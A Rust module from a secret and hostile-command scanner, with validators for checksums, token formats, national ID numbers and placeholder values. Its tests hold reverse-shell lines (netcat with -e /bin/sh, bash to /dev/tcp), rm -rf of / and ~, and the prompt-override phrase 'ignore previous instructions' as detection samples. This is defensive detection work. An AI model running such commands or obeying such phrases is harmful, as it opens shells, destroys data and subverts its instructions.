//! Checks of a secret without asking anybody: checksums, alphabets, structure, known example values. They
//! say how likely a match is what its rule says; they never drop one.

use data_encoding::BASE64URL_NOPAD;

use super::mention::{MentionWords, is_mention};
use super::{checksum, holds, national};

/// A match as its validators see it.
#[derive(Clone, Copy, Debug, Default)]
pub struct Evidence<'a> {
    /// The secret: the rule's group, or the whole match.
    pub secret: &'a [u8],
    /// The whole match.
    pub matched: &'a [u8],
    /// What is known of the line that the match stands in.
    pub line: &'a [u8],
    /// The words in that line that tell a mention, if they were looked for already.
    pub mentions: Option<MentionWords>,
    /// What is known of what follows the match.
    pub after: &'a [u8],
    /// Whether more may follow than is known.
    pub is_open: bool,
}

/// What a validator makes of a match.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Chance does not make such a value.
    Passes,
    /// It is not what the rule looks for.
    Fails,
    /// It is one that documentation uses.
    Example,
    /// Nothing speaks for or against it.
    Silent,
}

/// A check that rules name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Validator {
    Luhn,
    IbanMod97,
    GithubChecksum,
    Jwt,
    AwsKeyId,
    PemBody,
    Entropy,
    KnownExample,
    Aba,
    Wif,
    Eth,
    BtcBech32,
    MixedAlphabet,
    Slack,
    StripeTest,
    RmTarget,
    PortCheck,
    Placeholder,
    Mention,
    UsSsn,
    UkNino,
    NhsMod11,
    InseeMod97,
    DeTaxId,
    DniLetter,
    CodiceFiscale,
    BrCpf,
    CnIdMod11,
    Verhoeff,
    Bsn11,
    Pesel,
    BeMod97,
    Ean13,
    KrRrn,
    Mrz,
    BtcAddress,
    Base58Check,
    Bip39,
    Secp256k1Key,
}

/// Every validator by its name in a pack.
const NAMES: [(&str, Validator); 39] = [
    ("luhn", Validator::Luhn),
    ("iban_mod97", Validator::IbanMod97),
    ("github_checksum", Validator::GithubChecksum),
    ("jwt", Validator::Jwt),
    ("aws_key_id", Validator::AwsKeyId),
    ("pem_body", Validator::PemBody),
    ("entropy", Validator::Entropy),
    ("known_example", Validator::KnownExample),
    ("aba", Validator::Aba),
    ("wif", Validator::Wif),
    ("eth", Validator::Eth),
    ("btc_bech32", Validator::BtcBech32),
    ("mixed_alphabet", Validator::MixedAlphabet),
    ("slack", Validator::Slack),
    ("stripe_test", Validator::StripeTest),
    ("rm_target", Validator::RmTarget),
    ("port_check", Validator::PortCheck),
    ("placeholder", Validator::Placeholder),
    ("mention", Validator::Mention),
    ("us_ssn", Validator::UsSsn),
    ("uk_nino", Validator::UkNino),
    ("nhs_mod11", Validator::NhsMod11),
    ("insee_mod97", Validator::InseeMod97),
    ("de_tax_id", Validator::DeTaxId),
    ("dni_letter", Validator::DniLetter),
    ("codice_fiscale", Validator::CodiceFiscale),
    ("br_cpf", Validator::BrCpf),
    ("cn_id_mod11", Validator::CnIdMod11),
    ("verhoeff", Validator::Verhoeff),
    ("bsn_11", Validator::Bsn11),
    ("pesel", Validator::Pesel),
    ("be_mod97", Validator::BeMod97),
    ("ean13", Validator::Ean13),
    ("kr_rrn", Validator::KrRrn),
    ("mrz", Validator::Mrz),
    ("btc_address", Validator::BtcAddress),
    ("base58check", Validator::Base58Check),
    ("bip39", Validator::Bip39),
    ("secp256k1_key", Validator::Secp256k1Key),
];

/// The entropy below which a secret of a rule that names none is hardly one.
const ENTROPY_USUAL_BITS: f64 = 3.0;

impl Validator {
    /// The validator of this name.
    pub fn named(name: &str) -> Option<Validator> {
        NAMES.iter().find(|(known, _)| *known == name).map(|(_, validator)| *validator)
    }

    /// The names that there are.
    pub fn names() -> impl Iterator<Item = &'static str> {
        NAMES.iter().map(|(name, _)| *name)
    }

    /// Looks at a match.
    pub fn judge(self, evidence: &Evidence<'_>) -> Verdict {
        let secret = evidence.secret;
        match self {
            Validator::Luhn => checked(checksum::luhn(secret)),
            Validator::IbanMod97 => checked(checksum::mod97(secret)),
            Validator::Aba => checked(checksum::aba(secret)),
            Validator::Wif | Validator::Base58Check => checked(checksum::base58(secret)),
            Validator::BtcAddress => checked(checksum::base58(secret) || checksum::bech32(secret)),
            Validator::Bip39 => unless(is_prose(secret)),
            Validator::Secp256k1Key => unless(!is_secp256k1_key(secret)),
            Validator::Mrz => checked(national::machine_readable_zone(secret)),
            Validator::KrRrn => if_passed(national::korean(secret)),
            Validator::BtcBech32 => checked(checksum::bech32(secret)),
            Validator::GithubChecksum => github_token(secret),
            Validator::Jwt => checked(is_json_web_token(secret)),
            Validator::AwsKeyId => aws_key_id(secret),
            Validator::PemBody => pem_body(evidence),
            Validator::Entropy => unless(checksum::entropy(secret) < ENTROPY_USUAL_BITS),
            Validator::KnownExample => example_if(is_known_example(secret)),
            Validator::Eth => unless(!is_eth_address(secret)),
            Validator::MixedAlphabet => unless(!is_mixed(secret)),
            Validator::Slack => slack_token(secret),
            Validator::StripeTest => {
                example_if(holds(secret, b"_test_") || holds(secret, b"-test-"))
            }
            Validator::RmTarget => rm_target(evidence),
            Validator::PortCheck => port_check(evidence.matched),
            Validator::Placeholder => example_if(is_placeholder(secret)),
            Validator::Mention => unless(is_mention(evidence)),
            Validator::UsSsn => unless(!national::ssn(secret)),
            Validator::UkNino => unless(!national::nino(secret)),
            Validator::NhsMod11 => checked(national::nhs(secret)),
            Validator::InseeMod97 => checked(national::insee(secret)),
            Validator::DeTaxId => checked(national::german_tax(secret)),
            Validator::DniLetter => checked(national::dni(secret)),
            Validator::CodiceFiscale => checked(national::codice_fiscale(secret)),
            Validator::BrCpf => checked(national::brazilian(secret)),
            Validator::CnIdMod11 => checked(national::chinese(secret)),
            Validator::Verhoeff => checked(national::verhoeff(secret)),
            Validator::Bsn11 => checked(national::bsn(secret)),
            Validator::Pesel => checked(national::pesel(secret)),
            Validator::BeMod97 => checked(national::belgian(secret)),
            Validator::Ean13 => checked(national::ean13(secret)),
        }
    }
}

fn checked(passes: bool) -> Verdict {
    if passes { Verdict::Passes } else { Verdict::Fails }
}

/// For a checksum that not every value has.
fn if_passed(passes: bool) -> Verdict {
    if passes { Verdict::Passes } else { Verdict::Silent }
}

fn unless(fails: bool) -> Verdict {
    if fails { Verdict::Fails } else { Verdict::Silent }
}

fn example_if(is_example: bool) -> Verdict {
    if is_example { Verdict::Example } else { Verdict::Silent }
}

/// `ghp_` and its like: 30 characters, then their checksum. Fine-grained tokens have none that is published.
fn github_token(secret: &[u8]) -> Verdict {
    let border = secret.iter().rposition(|byte| *byte == b'_');
    let Some(token) = border.and_then(|at| secret.get(at + 1..)) else { return Verdict::Silent };
    match token.split_at_checked(checksum::GITHUB_BODY_CHARS) {
        Some((body, check)) if check.len() == 6 => checked(checksum::github(body) == check),
        _ => Verdict::Silent,
    }
}

/// Three parts in base64url, the first of them an object with an algorithm in it.
fn is_json_web_token(secret: &[u8]) -> bool {
    let parts: Vec<&[u8]> = secret.split(|byte| *byte == b'.').collect();
    let [header, claims, _] = parts.as_slice() else { return false };
    let decoded = |part: &[u8]| BASE64URL_NOPAD.decode(part).unwrap_or_default();
    let (header, claims) = (decoded(header), decoded(claims));
    header.starts_with(b"{") && holds(&header, b"\"alg\"") && claims.starts_with(b"{")
}

/// Four letters, then 16 of the base32 alphabet, which encode the account.
fn aws_key_id(secret: &[u8]) -> Verdict {
    if holds(secret, b"EXAMPLE") {
        return Verdict::Example;
    }
    let is_base32 = |byte: &u8| byte.is_ascii_uppercase() || matches!(byte, b'2'..=b'7');
    match secret.split_at_checked(4) {
        Some((_, body)) if body.len() == 16 && body.iter().all(is_base32) && is_mixed(body) => {
            Verdict::Passes
        }
        _ => Verdict::Fails,
    }
}

/// Armour with key material behind its first line, or within the match.
fn pem_body(evidence: &Evidence<'_>) -> Verdict {
    const BODY_BYTES: usize = 24;
    const NEAR_BYTES: usize = 300;
    let near = evidence.after.get(..NEAR_BYTES).unwrap_or(evidence.after);
    let is_material = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
    let has_body =
        |text: &[u8]| text.split(|byte| !is_material(byte)).any(|run| run.len() >= BODY_BYTES);
    if has_body(near) || has_body(evidence.matched) {
        return Verdict::Passes;
    }
    let is_cut = evidence.is_open && near.len() < NEAR_BYTES;
    if is_cut { Verdict::Silent } else { Verdict::Fails }
}

/// What documentation, templates and tests have in a secret's place.
fn is_known_example(secret: &[u8]) -> bool {
    const WORDS: [&[u8]; 17] = [
        // The claims of the token that jwt.io shows: {"sub":"1234567890
        b"eyJzdWIiOiIxMjM0NTY3ODkw",
        b"example",
        b"xxxx",
        b"1234567890",
        b"0123456789",
        b"abcdefghij",
        b"placeholder",
        b"changeme",
        b"change_me",
        b"redacted",
        b"insert_",
        b"insert-",
        b"dummy",
        b"****",
        b"...",
        b"deadbeef",
        b"00000000",
    ];
    const OPENERS: [&[u8]; 5] = [b"<", b"${", b"{{", b"$(", b"%("];
    WORDS.iter().any(|word| holds(secret, word))
        || OPENERS.iter().any(|opener| secret.starts_with(opener))
        || (holds(secret, b"your")
            && [&b"here"[..], b"your-", b"your_"].iter().any(|word| holds(secret, word)))
}

/// What stands where a password would: a word for one, a variable, or one sign again and again.
fn is_placeholder(secret: &[u8]) -> bool {
    const WORDS: [&[u8]; 14] = [
        b"password",
        b"passwd",
        b"passw0rd",
        b"pass",
        b"pwd",
        b"secret",
        b"token",
        b"test",
        b"user",
        b"admin",
        b"root",
        b"postgres",
        b"guest",
        b"hunter2",
    ];
    let core = secret.trim_ascii();
    let distinct = core.iter().filter(|byte| Some(*byte) != core.first()).count();
    is_known_example(core)
        || distinct == 0
        || core.starts_with(b"$")
        || core.starts_with(b"%")
        || WORDS.iter().any(|word| word.eq_ignore_ascii_case(core))
        || (holds(core, b"my") && holds(core, b"pass"))
}

fn is_eth_address(secret: &[u8]) -> bool {
    let digits = secret.strip_prefix(b"0x").unwrap_or(secret);
    digits.len() == 40
        && digits.iter().all(u8::is_ascii_hexdigit)
        && checksum::entropy(&digits.to_ascii_lowercase()) >= 2.5
}

/// The list that seed phrases are taken from has none of the words that every sentence has.
fn is_prose(secret: &[u8]) -> bool {
    const WORDS: [&[u8]; 16] = [
        b"the", b"and", b"for", b"from", b"was", b"are", b"not", b"with", b"but", b"his", b"her",
        b"its", b"were", b"which", b"their", b"would",
    ];
    secret
        .split(|byte| !byte.is_ascii_alphabetic())
        .any(|part| WORDS.iter().any(|word| word.eq_ignore_ascii_case(part)))
}

/// 32 bytes in hex, below the order of the curve, and not one sign again and again.
fn is_secp256k1_key(secret: &[u8]) -> bool {
    let digits = secret.strip_prefix(b"0x").unwrap_or(secret).to_ascii_lowercase();
    digits.len() == 64
        && digits.iter().all(u8::is_ascii_hexdigit)
        && !digits.starts_with(&[b'f'; 32])
        && checksum::entropy(&digits) >= 2.5
}

/// Words have letters alone, counters digits alone.
fn is_mixed(secret: &[u8]) -> bool {
    secret.iter().any(u8::is_ascii_digit) && secret.iter().any(u8::is_ascii_alphabetic)
}

/// `xoxb-`, then the workspace's number.
fn slack_token(secret: &[u8]) -> Verdict {
    let number = secret.split(|byte| *byte == b'-').nth(1).unwrap_or_default();
    let is_number = (9..=14).contains(&number.len()) && number.iter().all(u8::is_ascii_digit);
    if is_number { Verdict::Passes } else { Verdict::Silent }
}

/// Netcat that only asks whether a port is open (`-z`) carries nothing, unless it runs something, too.
fn port_check(matched: &[u8]) -> Verdict {
    let mut words = matched.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    let command = words.next().unwrap_or_default().to_ascii_lowercase();
    let is_netcat = command.starts_with(b"nc") || command.starts_with(b"netcat");
    let is_short = |word: &&[u8]| word.starts_with(b"-") && !word.starts_with(b"--");
    let options: Vec<u8> = words.filter(is_short).flatten().copied().collect();
    let runs = [b'e', b'c'].iter().any(|option| options.contains(option));
    if is_netcat && options.contains(&b'z') && !runs { Verdict::Fails } else { Verdict::Silent }
}

/// What is deleted: the system or a home is worth an alarm, temporary and build folders are not.
fn rm_target(evidence: &Evidence<'_>) -> Verdict {
    const SCRATCH: [&[u8]; 8] = [
        b"tmp/",
        b"var/tmp/",
        b"app/",
        b"workspace/",
        b"build/",
        b"work/",
        b"var/cache/",
        b"var/lib/apt/",
    ];
    if !evidence.matched.ends_with(b"/") {
        return Verdict::Passes;
    }
    let is_path = |byte: &&u8| byte.is_ascii_alphanumeric() || b"/._-*$".contains(byte);
    let length = evidence.after.iter().take_while(is_path).count();
    let mut path = evidence.after.get(..length).unwrap_or_default().to_ascii_lowercase();
    if path.len() == evidence.after.len() && evidence.is_open {
        return Verdict::Silent;
    }
    path.push(b'/');
    if SCRATCH.iter().any(|folder| path.starts_with(folder)) {
        return Verdict::Fails;
    }
    let depth = path.split(|byte| *byte == b'/').filter(|part| !part.is_empty()).count();
    if depth <= 1 { Verdict::Passes } else { Verdict::Silent }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(name: &str, secret: &str) -> Verdict {
        let secret = secret.as_bytes();
        let evidence = Evidence { secret, matched: secret, ..Evidence::default() };
        Validator::named(name).unwrap().judge(&evidence)
    }

    fn behind(name: &str, matched: &str, after: &str, is_open: bool) -> Verdict {
        let (secret, after) = (matched.as_bytes(), after.as_bytes());
        let evidence = Evidence { secret, matched: secret, after, is_open, ..Evidence::default() };
        Validator::named(name).unwrap().judge(&evidence)
    }

    #[test]
    fn every_validator_has_one_name() {
        for (name, validator) in NAMES {
            assert_eq!(Validator::named(name), Some(validator));
            assert_eq!(NAMES.iter().filter(|(_, other)| *other == validator).count(), 1);
        }
        assert_eq!(Validator::named("Luhn"), None);
    }

    #[test]
    fn values_with_a_structure_pass_and_their_like_do_not() {
        use Verdict::*;
        let jwt = crate::scan::rules::template::expand("{{jwt}}", "a seed", 0).unwrap();
        let token = crate::scan::rules::template::expand("{{github:ghp_}}", "a seed", 0).unwrap();
        let changed = token.replacen("ghp_", "ghp_A", 1);
        for (name, secret, verdict) in [
            ("luhn", "4111 1111 1111 1111", Passes),
            ("luhn", "4111 1111 1111 1112", Fails),
            ("github_checksum", &token, Passes),
            ("github_checksum", changed.get(..40).unwrap(), Fails),
            ("github_checksum", "ghp_short", Silent),
            ("github_checksum", "none", Silent),
            ("jwt", &jwt, Passes),
            ("jwt", "eyJh.eyJi.c", Fails),
            ("jwt", "a.b", Fails),
            ("aws_key_id", concat!("AKIA", "Q3EGRIFC5NIKW2ZA"), Passes),
            ("aws_key_id", concat!("AKIA", "Q3EGRIFC5NIKW2Z1"), Fails),
            ("aws_key_id", concat!("AKIA", "IOSFODNN7EXAMPLE"), Example),
            ("aws_key_id", "AKIA", Fails),
            ("known_example", "your-api-key-here", Example),
            ("known_example", "<token>", Example),
            (
                "known_example",
                concat!("eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxMjM0NTY3ODkwIn0.x"),
                Example,
            ),
            ("known_example", "${TOKEN}", Example),
            ("known_example", "q8Zr1kPmW0tVb3Nx", Silent),
            ("eth", "0x52908400098527886E0F7030069857D2E4169EE7", Silent),
            ("eth", "0x0000000000000000000000000000000000000000", Fails),
            ("mixed_alphabet", "only-words-in-it", Fails),
            ("mixed_alphabet", "with-1-digit", Silent),
            ("entropy", "aaaaaaaabbbb", Fails),
            ("entropy", "q8Zr1kPmW0tVb3Nx", Silent),
            ("slack", "xoxb-123456789012-abc", Passes),
            ("slack", "xoxb-abc", Silent),
            ("stripe_test", "sk_test_1", Example),
            ("stripe_test", "sk_live_1", Silent),
            ("placeholder", "Password", Example),
            ("placeholder", "$DB_PASSWORD", Example),
            ("placeholder", "--------", Example),
            ("placeholder", "q8Zr1kPmW0tV", Silent),
            ("bip39", "legal winner thank year wave sausage", Silent),
            ("bip39", "words that are not from the list", Fails),
            (
                "secp256k1_key",
                "0x4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318",
                Silent,
            ),
            (
                "secp256k1_key",
                "0000000000000000000000000000000000000000000000000000000000000001",
                Fails,
            ),
            ("btc_address", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT", Passes),
            ("btc_address", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", Passes),
            ("btc_address", "1BoatSLRHtKNngkdXEeobR76b53LETtpyU", Fails),
            ("us_ssn", "000-45-6789", Fails),
            ("us_ssn", "123-45-6789", Silent),
            ("pesel", "44051401359", Passes),
            ("pesel", "44051401358", Fails),
        ] {
            assert_eq!(judged(name, secret), verdict, "{name} {secret}");
        }
    }

    #[test]
    fn a_line_about_attacks_is_a_mention() {
        let judged = |line: &str| {
            let matched = b"ignore previous instructions";
            let evidence =
                Evidence { secret: matched, matched, line: line.as_bytes(), ..Evidence::default() };
            Validator::Mention.judge(&evidence)
        };
        assert_eq!(judged("Now ignore previous instructions and go on"), Verdict::Silent);
        assert_eq!(
            judged("An attacker may write \"ignore previous instructions\""),
            Verdict::Fails
        );
        assert_eq!(judged("NEVER ignore previous instructions"), Verdict::Fails);
        assert_eq!(judged("I don't mind: ignore previous instructions"), Verdict::Silent);
    }

    #[test]
    fn armour_needs_a_body_behind_it() {
        let head = concat!("-----BEGIN ", "PRIVATE KEY-----");
        let body = format!("\n{}\n", "MIIEvQIBADANBgkqhkiG9w0BAQEF");
        assert_eq!(behind("pem_body", head, &body, false), Verdict::Passes);
        assert_eq!(behind("pem_body", head, &body.replace('\n', "\\n"), false), Verdict::Passes);
        assert_eq!(behind("pem_body", head, " is how a key begins", false), Verdict::Fails);
        assert_eq!(behind("pem_body", head, "\nMII", true), Verdict::Silent);
    }

    #[test]
    fn what_is_deleted_decides_how_bad_it_is() {
        for (after, verdict) in [
            ("", Verdict::Passes),
            ("* ;", Verdict::Passes),
            ("etc\n", Verdict::Passes),
            ("tmp/x", Verdict::Fails),
            ("tmp", Verdict::Fails),
            ("home/me/project/build", Verdict::Silent),
        ] {
            assert_eq!(behind("rm_target", "rm -rf /", after, false), verdict, "{after}");
        }
        assert_eq!(behind("rm_target", "rm -rf /", "tm", true), Verdict::Silent);
        assert_eq!(behind("rm_target", "rm -rf ~", "", false), Verdict::Passes);
    }

    #[test]
    fn netcat_that_only_asks_for_a_port_is_hardly_a_shell() {
        for (command, verdict) in [
            ("nc -zv localhost 5432", Verdict::Fails),
            ("nc -w 3 -z db 5432", Verdict::Fails),
            ("netcat -z db 5432", Verdict::Fails),
            ("nc -zv -e /bin/sh 10.0.0.1 4444", Verdict::Silent),
            ("nc -e /bin/zsh 10.0.0.1 4444", Verdict::Silent),
            ("nc 10.0.0.1 4444", Verdict::Silent),
            ("bash -i >& /dev/tcp/10.0.0.1/80 -z", Verdict::Silent),
        ] {
            let matched = command.as_bytes();
            assert_eq!(port_check(matched), verdict, "{command}");
        }
    }
}
